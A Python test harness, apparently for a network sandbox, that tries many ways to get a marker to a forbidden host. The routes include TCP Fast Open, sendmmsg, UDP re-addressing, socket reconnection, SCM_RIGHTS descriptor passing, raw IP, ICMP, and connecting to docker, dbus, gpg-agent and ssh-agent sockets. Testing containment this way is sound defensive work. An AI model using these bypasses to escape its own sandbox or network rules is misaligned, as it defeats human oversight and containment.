"""Ways around rules for hosts. Each attack carries a mark of its own; the hosts
that may not have it are those of world.py and the sockets below, which write down
what they get. Others are in network_names.py and network_requests.py.

network.py attack NAME…: tries them, and says how each ended
network.py names: the names of all
network.py sinks: servers of unix sockets, which write to WORLD/unix
"""
import ctypes
import os
import socket
import struct
import sys
import threading

import network_names  # noqa: F401 (its attacks)
import network_requests  # noqa: F401
from network_base import HOME, ONE, TWO, WORLD, attack, attacks, get, named, udp

SOCKETS = [
    "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
    "/run/dbus/system_bus_socket", "/run/user/1000/bus", "/run/systemd/private",
    "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket",
    "/run/user/1000/gnupg/S.gpg-agent", HOME + "/.gnupg/S.gpg-agent",
    "/run/user/1000/keyring/ssh", HOME + "/.ssh/agent.sock",
    "/run/user/1000/wayland-0", "@/tmp/.X11-unix/X77", "@/tmp/dbus-attack",
]


@attack
def mptcp(mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.connect((TWO, 80))
    return get(s, TWO, "/" + mark.decode())


@attack
def fast_open(mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.sendto(b"GET /" + mark + b" HTTP/1.1\r\nHost: x\r\n\r\n", 0x20000000, (TWO, 80))
    return s.recv(100)


@attack
def second_of_sendmmsg(mark):
    class Address(ctypes.Structure):
        _fields_ = [("family", ctypes.c_ushort), ("port", ctypes.c_uint16.__ctype_be__),
                    ("host", ctypes.c_uint8 * 4), ("rest", ctypes.c_uint8 * 8)]

    class Part(ctypes.Structure):
        _fields_ = [("at", ctypes.c_char_p), ("length", ctypes.c_size_t)]

    class Message(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32),
                    ("parts", ctypes.c_void_p), ("count", ctypes.c_size_t),
                    ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                    ("flags", ctypes.c_int), ("rest", ctypes.c_int),
                    ("sent", ctypes.c_uint)]

    good = socket.getaddrinfo("good.test", None, socket.AF_INET)[0][4][0]
    addresses = [Address(socket.AF_INET, 9999, (ctypes.c_uint8 * 4)(*socket.inet_aton(a)))
                 for a in (good, TWO)]
    parts = [Part(b"fine", 4), Part(mark, len(mark))]
    messages = (Message * 2)(*[
        Message(ctypes.addressof(a), ctypes.sizeof(a), ctypes.addressof(p), 1)
        for a, p in zip(addresses, parts)])
    s = udp()
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.sendmmsg(s.fileno(), messages, 2, 0), ctypes.get_errno()


@attack
def quic(mark):
    s = udp()
    s.connect((socket.getaddrinfo("good.test", None, socket.AF_INET)[0][4][0], 443))
    s.send(mark)
    return s.recv(100)


@attack
def connected_then_sent_elsewhere(mark):
    s = udp()
    s.connect((socket.getaddrinfo("good.test", None, socket.AF_INET)[0][4][0], 9999))
    s.sendto(mark, (TWO, 9999))
    return s.recv(100)


@attack
def connected_anew(mark):
    """A socket that a rule let connect, taken back and connected elsewhere."""
    s = named("good.test", 80)
    get(s, "good.test", "/fine")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.connect(s.fileno(), struct.pack("H14x", socket.AF_UNSPEC), 16)
    s.connect((TWO, 80))
    return get(s, TWO, "/" + mark.decode())


@attack
def passed_to_another_process(mark):
    """SCM_RIGHTS: a socket is another's business wherever it was made."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    if os.fork() == 0:
        ours.close()
        made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        socket.send_fds(theirs, [b"x"], [made.fileno()])
        os._exit(0)
    theirs.close()
    data, fds, _, _ = socket.recv_fds(ours, 10, 1)
    s = socket.socket(fileno=fds[0])
    s.connect((TWO, 80))
    return get(s, TWO, "/" + mark.decode())


@attack
def ping(mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    return s.sendto(b"\x08\0\0\0\0\0\0\0" + mark, (TWO, 0))


@attack
def vsock(mark):
    s = socket.socket(40, socket.SOCK_STREAM)
    with open(os.path.join(WORLD, "unix"), "ab") as file:
        file.write(mark + b"\n")  # that there is one is enough
    return s


@attack
def icmp_raw(mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(mark), 1, 0, 64, 17, 0,
                       socket.inet_aton(ONE), socket.inet_aton(TWO))
    return s.sendto(head + struct.pack(">HHHH", 999, 9999, 8 + len(mark), 0) + mark,
                    (TWO, 0))


def sink_attack(path):
    def one(mark):
        s = socket.socket(socket.AF_UNIX)
        s.connect("\0" + path[1:] if path[0] == "@" else path)
        s.sendall(mark)
        return s.recv(10)
    return one


for path in SOCKETS:
    name = path.replace(HOME, "~").replace("/", "-").replace(".", "-").strip("-")
    attacks["socket-" + name.replace("@", "abstract").replace("~-", "home")] = \
        sink_attack(path)


# ------------------------------------------------------------------------------

def sinks():
    def serve(server):
        while True:
            connection, _ = server.accept()
            data = connection.recv(1000)
            with open(os.path.join(WORLD, "unix"), "ab") as file:
                file.write(data + b"\n")
            connection.close()

    for path in SOCKETS:
        server = socket.socket(socket.AF_UNIX)
        if path[0] != "@":
            os.makedirs(os.path.dirname(path), exist_ok=True)
        server.bind("\0" + path[1:] if path[0] == "@" else path)
        server.listen(8)
        threading.Thread(target=serve, args=(server,), daemon=True).start()
    open(os.path.join(WORLD, "sinks"), "w").close()
    threading.Event().wait()


if __name__ == "__main__":
    if sys.argv[1] == "names":
        print("\n".join(attacks))
    elif sys.argv[1] == "sinks":
        sinks()
    else:
        for name in sys.argv[2:] or attacks:
            # Short, and of letters that a name may have.
            mark = b"m%02dx" % list(attacks).index(name)
            try:
                print(name, mark.decode(), "->", attacks[name](mark), flush=True)
            except (OSError, ValueError) as error:
                print(name, mark.decode(), "->", type(error).__name__, error,
                      flush=True)
